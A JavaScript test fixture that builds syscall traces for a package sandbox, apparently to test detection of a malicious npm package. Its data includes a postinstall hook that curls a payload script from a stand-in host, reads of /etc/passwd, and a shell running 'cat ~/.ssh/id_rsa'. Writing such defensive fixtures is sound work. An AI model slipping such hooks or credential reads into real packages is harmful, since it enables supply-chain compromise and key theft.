/**
 * Traces in the shape the sandbox records (`strace -f -ttt -s 4096 -v -yy` around the runner), cut
 * down from the recorded net-shell-download run: the runner (/opt/airlock) starts npm, npm runs the
 * postinstall through `sh -c`, the script's shell starts curl. Environments are shortened.
 */
import { lines } from './helpers.js';

export const PACKAGE = 'airlock-fixture-tree-sh-curl';
const SCRIPT = `sh -c 'curl -s -m 5 http://stage2.tree-fixture.example/payload.sh -o /dev/null; echo fetched'`;
const NPM_ENV = JSON.stringify([
  'HOME=/home/jordan',
  `npm_package_name=${PACKAGE}`,
  'npm_package_version=1.0.0',
  'npm_lifecycle_event=postinstall',
  `npm_lifecycle_script=${SCRIPT}`,
]);
const INNER = 'curl -s -m 5 http://stage2.tree-fixture.example/payload.sh -o /dev/null; echo fetched';
export const CURL_ARGV = ['curl', '-s', '-m', '5', 'http://stage2.tree-fixture.example/payload.sh', '-o', '/dev/null'];
export const POSTINSTALL = { packageName: PACKAGE, event: 'postinstall', script: SCRIPT };

export const INSTALL_TRACE = lines(
  `19    1795487736.727287 execve("/opt/airlock/bin/airlock-exec", ["/opt/airlock/bin/airlock-exec", "/airlock/out/install.exit", "npm", "install", "/airlock/input/package.tgz"], ["HOME=/home/jordan"]) = 0`,
  `19    1795487736.734963 vfork( <unfinished ...>`,
  `20    1795487736.735309 execve("/usr/local/bin/npm", ["npm", "install", "/airlock/input/package.tgz"], ["HOME=/home/jordan"] <unfinished ...>`,
  `19    1795487736.735929 <... vfork resumed>) = 20`,
  `20    1795487736.736560 <... execve resumed>) = 0`,
  `20    1795487736.741962 execve("/home/jordan/.local/bin/node", ["node", "/usr/local/bin/npm", "install", "/airlock/input/package.tgz"], ["HOME=/home/jordan"]) = -1 ENOENT (No such file or directory)`,
  `20    1795487736.742403 execve("/usr/local/bin/node", ["node", "/usr/local/bin/npm", "install", "/airlock/input/package.tgz"], ["HOME=/home/jordan"]) = 0`,
  `20    1795487736.782371 clone(child_stack=0x7f7cb19a7e30, flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM|CLONE_SETTLS|CLONE_PARENT_SETTID|CLONE_CHILD_CLEARTID, parent_tid=[21], tls=0x7f7cb19a86c0, child_tidptr=0x7f7cb19a8990) = 21`,
  `21    1795487736.824656 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.npmrc", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)`,
  `21    1795487736.830000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.gitconfig", O_RDONLY|O_CLOEXEC) = 23</home/jordan/.gitconfig>`,
  `20    1795487737.100000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/projects/app/node_modules/${PACKAGE}/package.json", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 24</home/jordan/projects/app/node_modules/${PACKAGE}/package.json>`,
  `20    1795487738.589232 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f7cb19aff90) = 32`,
  `32    1795487738.595078 execve("/home/jordan/projects/app/node_modules/${PACKAGE}/node_modules/.bin/sh", ["sh", "-c", ${JSON.stringify(SCRIPT)}], ${NPM_ENV}) = -1 ENOENT (No such file or directory)`,
  `32    1795487738.614057 execve("/usr/bin/sh", ["sh", "-c", ${JSON.stringify(SCRIPT)}], ${NPM_ENV}) = 0`,
  `32    1795487738.622756 vfork( <unfinished ...>`,
  `33    1795487738.623071 execve("/usr/bin/sh", ["sh", "-c", ${JSON.stringify(INNER)}], ${NPM_ENV} <unfinished ...>`,
  `32    1795487738.624366 <... vfork resumed>) = 33`,
  `33    1795487738.624918 <... execve resumed>) = 0`,
  `33    1795487738.634578 vfork( <unfinished ...>`,
  `34    1795487738.634907 execve("/usr/bin/curl", ${JSON.stringify(CURL_ARGV)}, ${NPM_ENV} <unfinished ...>`,
  `33    1795487738.636339 <... vfork resumed>) = 34`,
  `34    1795487738.636863 <... execve resumed>) = 0`,
  `34    1795487738.650000 openat(AT_FDCWD</home/jordan/projects/app/node_modules/${PACKAGE}>, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>`,
  `34    1795487738.660000 connect(5<TCP:[5002]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.18.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)`,
  `34    1795487738.752932 +++ exited with 0 +++`,
  `33    1795487738.753000 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=34, si_uid=1000, si_status=0, si_utime=0, si_stime=0} ---`,
  `33    1795487738.760000 exit_group(0) = ?`,
  `33    1795487738.760100 +++ exited with 0 +++`,
  `32    1795487738.848714 +++ exited with 0 +++`,
  `21    1795487739.360000 +++ exited with 0 +++`,
  `20    1795487739.370093 +++ exited with 0 +++`,
  `19    1795487739.380000 +++ exited with 0 +++`,
);

const IMPORT_ARGV = JSON.stringify([
  'node',
  '-e',
  'require("/opt/airlock/lib/import-package.cjs").run(require, (s) => import(s))',
  PACKAGE,
]);

/** The import runner (node under /opt/airlock) loads the package, whose code starts a shell that reads an SSH key. */
export const IMPORT_TRACE = lines(
  `48    1795487739.544749 execve("/opt/airlock/bin/airlock-exec", ["/opt/airlock/bin/airlock-exec", "/airlock/out/import.exit", "node"], ["HOME=/home/jordan"]) = 0`,
  `48    1795487739.553338 vfork() = 49`,
  `49    1795487739.553524 execve("/usr/local/bin/node", ${IMPORT_ARGV}, ["HOME=/home/jordan"]) = 0`,
  `49    1795487739.600000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0) = 50`,
  `50    1795487739.610000 execve("/bin/sh", ["/bin/sh", "-c", "cat ~/.ssh/id_rsa"], ["HOME=/home/jordan"]) = 0`,
  `50    1795487739.615000 vfork() = 51`,
  `51    1795487739.620000 execve("/usr/bin/cat", ["cat", "/home/jordan/.ssh/id_rsa"], ["HOME=/home/jordan"]) = 0`,
  `51    1795487739.625000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.ssh/id_rsa", O_RDONLY) = 3</home/jordan/.ssh/id_rsa>`,
  `51    1795487739.630000 +++ exited with 0 +++`,
  `50    1795487739.640000 +++ killed by SIGKILL +++`,
  `49    1795487739.645000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0) = 52`,
  `52    1795487739.650000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/projects/app/.env", O_RDONLY) = -1 ENOENT (No such file or directory)`,
  `49    1795487739.694873 +++ exited with 0 +++`,
  `48    1795487739.696846 +++ exited with 0 +++`,
);
